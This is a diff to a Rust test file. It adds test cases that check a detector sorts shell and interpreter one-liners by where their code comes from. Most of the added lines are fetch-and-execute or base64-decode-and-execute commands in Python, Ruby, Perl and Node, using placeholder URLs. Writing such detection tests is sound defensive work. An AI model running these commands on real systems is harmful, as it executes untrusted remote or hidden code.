@@ -33,6 +33,12 @@ fn tells_where_code_comes_from() {
         "curl x | xargs -I{} sh -c '{}'",
         "curl x | ssh h",
         "python3 -c 'import requests; exec(requests.get(\"u\").text)'",
+        "python3 -c 'exec(urlopen(\"https://u\").read())'",
+        "python3 -c 'c = requests.get(u).text; exec(c)'",
+        "ruby -e 'eval(`curl u`)'",
+        "perl -e 'eval `curl u`'",
+        "node -e 'fetch(u).then(r => r.text()).then(eval)'",
+        "node -e 'fetch(u).then(r => r.text()).then(c => eval(c))'",
     ];
     for line in download {
         assert_eq!(foreign(line), [CodeSource::Download], "{line}");
@@ -47,6 +53,9 @@ fn tells_where_code_comes_from() {
         (CodeSource::Decoded, "echo 'x/ fr- mr' | rev | sh"),
         (CodeSource::Decoded, "echo x | tr a b | sh"),
         (CodeSource::Decoded, "python3 -c 'exec(base64.b64decode(\"x\"))'"),
+        (CodeSource::Decoded, "python3 -c 'os.system(base64.b64decode(\"x\").decode())'"),
+        (CodeSource::Decoded, "python3 -c 'c=base64.b64decode(\"x\").decode()\nos.system(c)'"),
+        (CodeSource::Decoded, "node -e 'eval(atob(\"x\"))'"),
         (CodeSource::Output, "gen | sh"),
         (CodeSource::Output, "eval \"$(gen)\""),
         (CodeSource::Output, "sed s/a/b/ f | sh"),
